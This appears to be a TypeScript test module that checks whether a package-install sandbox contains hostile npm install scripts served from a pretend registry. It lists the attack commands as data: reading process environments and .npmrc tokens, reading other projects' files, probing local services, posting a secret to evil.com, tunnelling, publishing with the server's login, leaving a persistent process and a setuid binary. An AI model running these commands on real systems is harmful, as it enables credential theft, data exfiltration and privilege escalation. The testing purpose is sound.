import { toProjectPath } from "@treadle/protocol/project-path";
import { execFileSync } from "node:child_process";
import {
  mkdirSync,
  mkdtempSync,
  chmodSync,
  readFileSync,
  readdirSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { removeTree } from "../remove-tree.ts";
import type { Workspace, WorkspaceDriver } from "../types.ts";
import type { AttackPlace, Attempt } from "./attempt.ts";
import { tunnel } from "./list/connect.ts";
import { makerPackages } from "./maker-packages.ts";
import { startRegistry } from "./pretended-registry.ts";

const LOGIN = "npm_login_of_the_server";
/** A duration of sleep that identifies the process. */
const LIVES_ON = "864317";
const OWN_FILE = "words of the project that asks";

/** Requests another install from the socket that projects' package managers use. */
const ASK = `cd /home/project && mv node_modules away && echo '{"name":"a","dependencies":{"nested":"1.0.0"}}' > package.json && rm -f package-lock.json
node -e 'const s=require("net").connect("/tmp/treadle-install.sock",()=>s.write(JSON.stringify({manager:"npm",args:["install"],folder:"/home/project"})+"\\n"));s.on("data",d=>process.stdout.write(String(d))).on("error",e=>console.log("NONE",e.code)).on("close",()=>process.exit());setTimeout(()=>process.exit(),20000)'
rm -rf node_modules; mv away node_modules`;

/** Commands that one install script runs, each with what its output must and must not contain. */
const looks = (place: AttackPlace, cache: string) =>
  [
    {
      id: "A33",
      what: "to read the server's key, and the registry's login",
      command:
        "cat /proc/*/environ /proc/*/cmdline ~/.npmrc /home/project/.npmrc | tr '\\0' '\\n'; env; npm config ls -l; echo end",
      never: new RegExp(`${place.secret || "nothing"}|${LOGIN}`),
    },
    {
      id: "A34",
      what: "to read the project that asked, and another",
      command: `ls -A /home/project; cat /home/project/mine.txt ${place.otherDirectory}/private.txt 2>/dev/null; echo end`,
      never: new RegExp(`mine|${OWN_FILE}|${place.otherSecret || "nothing"}`),
    },
    {
      id: "A47",
      what: "to see what was prepared for others",
      command: `ls -A ${cache} /proc/1/root${cache} 2>/dev/null; echo end`,
      always: /^end\n$/,
    },
    {
      id: "A31",
      what: "to reach a service of this machine",
      command: ["127.0.0.1", "::1", ...place.addresses]
        .map(
          (host) =>
            `curl -gsS -m 3 --noproxy '*' http://${host.includes(":") ? `[${host}]` : host}:${place.servicePort}/`,
        )
        .join("; ")
        .concat("; echo end"),
      never: /a service of the host/,
    },
    {
      id: "A27",
      what: "to send something to a host of its choice",
      command: "curl -sS -m 5 -d secret http://evil.com/ --noproxy ''; echo end",
      always: /egress refused[^]*end/,
    },
    {
      id: "A61",
      what: "a tunnel to the registry",
      command: `${tunnel("registry.npmjs.org:443")}; ${tunnel(`127.0.0.1:${place.servicePort}`)}`,
      always: /40\d[^]*end[^]*40\d[^]*end/,
      never: /HTTP\/1.. 200/,
    },
    {
      id: "A33",
      what: "to publish with the server's login",
      command:
        'for how in PUT POST DELETE; do curl -sS -m 5 -X $how "${npm_config_registry}lefty"; echo; done; curl -sS -m 5 "${npm_config_registry}-/whoami"; echo; echo end',
      always: /^([^\n]*nothing else[^\n]*\n){4}end\n$/,
    },
    {
      id: "A48",
      what: "an install of its own, which would be a sandbox more, and so on without end",
      command: ASK,
      always: /^\{"act":"run"/,
      never: /added|"done"/,
    },
  ] satisfies (Pick<Attempt, "id" | "what" | "always" | "never"> & { command: string })[];

/**
 * Sets up a registry with hostile packages and a driver that uses it: their install scripts run
 * where dependencies are prepared for all projects.
 * @returns the attempts, to be made in order, and a function that closes everything
 */
export async function openMakerPlace(
  place: AttackPlace,
  createDriver: (
    cache: string,
    env: NodeJS.ProcessEnv,
  ) => WorkspaceDriver | Promise<WorkspaceDriver>,
): Promise<{ attempts: Attempt[]; close(): Promise<void> }> {
  const folder = mkdtempSync(join(tmpdir(), "treadle-maker-"));
  chmodSync(folder, 0o755);
  const cache = join(folder, "cache");
  const found = looks(place, cache);
  const looked = [
    ...found.map(({ command }) => command),
    `setsid sleep ${LIVES_ON} > /dev/null 2>&1 & cp /bin/true mine; chmod 6777 mine; true`,
  ];
  const registry = await startRegistry(
    makerPackages({ looked, otherDirectory: place.otherDirectory }),
  );
  const home = join(folder, "home");
  mkdirSync(home);
  const { host, pathname } = new URL(registry.url);
  writeFileSync(
    join(home, ".npmrc"),
    `registry=${registry.url}\n//${host}${pathname}:_authToken=${LOGIN}\n`,
  );
  const driver = await createDriver(cache, {
    PATH: process.env.PATH,
    HOME: home,
    OPENAI_API_KEY: place.secret,
  });
  let opened = 0;

  /** Runs a function in a project that requires these packages. */
  async function inProject(
    dependencies: Record<string, string>,
    act: (run: (command: string) => Promise<string>, workspace: Workspace) => Promise<string>,
    files: Record<string, string> = {},
  ): Promise<string> {
    const name = `maker-${process.pid}-${++opened}`;
    const workspace = await driver.open({
      project: name,
      directory: join(folder, name, "files"),
      stateDirectory: join(folder, name, "state"),
    });
    try {
      const manifest = JSON.stringify({ name: "app", version: "1.0.0", dependencies });
      for (const [path, text] of Object.entries({ "package.json": manifest, ...files }))
        await workspace.files.write(toProjectPath(path), text);
      return await act(async (command) => (await workspace.run(command)).output, workspace);
    } finally {
      await workspace.stop();
    }
  }

  let explored: Promise<string[]> | undefined;
  const explore = () =>
    inProject(
      { explorer: "1.0.0" },
      async (run) => {
        const result = await run("npm install");
        const all: string[] = [];
        for (const index of looked.keys())
          all.push(await run(`cat node_modules/explorer/said-${index}`));
        return JSON.stringify([...all, result]);
      },
      { "mine.txt": OWN_FILE },
    ).then((text) => JSON.parse(text) as string[]);

  const lefty = (act: string, lock: string) =>
    inProject(
      { lefty: "1.0.0" },
      (run) => run(`${act} > /dev/null 2>&1; node -p 'require("lefty")'`),
      {
        "package-lock.json": lock,
      },
    );
  let honest: Promise<string> | undefined;
  const honestLock = () =>
    (honest ??= inProject({ lefty: "1.0.0" }, (run) =>
      run("npm install --package-lock-only > /dev/null 2>&1; cat package-lock.json"),
    ));

  const attempts: Attempt[] = [
    ...found.map(({ id, what, always = /end\n$/, never }, index): Attempt => ({
      id,
      area: "maker",
      what,
      act: async () => (await (explored ??= explore()))[index]!,
      always,
      never,
    })),
    {
      id: "A38",
      area: "maker",
      what: "to live on when all is prepared",
      act: async () => {
        const result = (await (explored ??= explore())).at(-1)!;
        return `${result}${isRunning(["sleep", LIVES_ON]) ? "LIVES" : "end"}\n`;
      },
      always: /added 1 package[^]*end\n$/,
    },
    {
      id: "A52",
      area: "maker",
      what: "to leave a program with the rights of its owner",
      act: async () => {
        await (explored ??= explore());
        const all = execFileSync("find", [join(cache, "trees"), "-name", "mine"]).toString();
        const bad = execFileSync("find", [join(cache, "trees"), "-perm", "/6000"]).toString();
        return `${all}${bad === "" ? "end" : `LEFT ${bad}`}\n`;
      },
      always: /mine\nend\n$/,
    },
    {
      id: "A20",
      area: "maker",
      what: "another project's folder in place of what is taken over",
      act: async () => {
        const result = await inProject({ linker: "1.0.0" }, (run) =>
          run("npm install 2>&1; cat node_modules/private.txt 2>&1; echo end"),
        );
        return `${result}${(await place.listOther()).join()}\n`;
      },
      always: /end\n[^]*private\.txt\n$/,
      never: new RegExp(place.otherSecret || "nothing"),
    },
    {
      id: "A51",
      area: "maker",
      what: "folders nested so deep that they stay in the cache",
      act: async () => {
        await inProject({ digger: "1.0.0" }, (run) => run("npm install 2>&1"));
        const left = readdirSync(join(cache, "preparing")).filter((name) =>
          name.startsWith("sandbox-"),
        );
        return left.length === 0 ? "end\n" : `LEFT ${left.join()}\n`;
      },
      always: /^end\n$/,
    },
    {
      id: "A47",
      area: "maker",
      what: "another project's code, by what it leaves in the lock file",
      act: async () => {
        const lock = await honestLock();
        await inProject({ lefty: "npm:evil@1.0.0" }, (run) => run("npm install"));
        return `${await lefty("npm install", lock)}${await lefty("npm ci", lock)}`;
      },
      always: /^honest\nhonest\n$/,
    },
    {
      id: "A47",
      area: "maker",
      what: "another project's code, by changing what is not its own",
      act: async () => {
        const lock = await honestLock();
        const result = await inProject({ lefty: "1.0.0", meddler: "1.0.0" }, (run) =>
          run("npm install 2>&1"),
        );
        return `${result}${await lefty("npm ci", lock)}`;
      },
      always: /added 2 packages[^]*honest\n$/,
    },
  ];

  return {
    attempts,
    async close() {
      await driver.close();
      registry.close();
      await removeTree(folder);
    },
  };
}

/** Whether a process of this machine was started with exactly these arguments. */
function isRunning(words: readonly string[]): boolean {
  return readdirSync("/proc").some((pid) => {
    try {
      return readFileSync(`/proc/${pid}/cmdline`, "utf8") === `${words.join("\0")}\0`;
    } catch {
      return false;
    }
  });
}
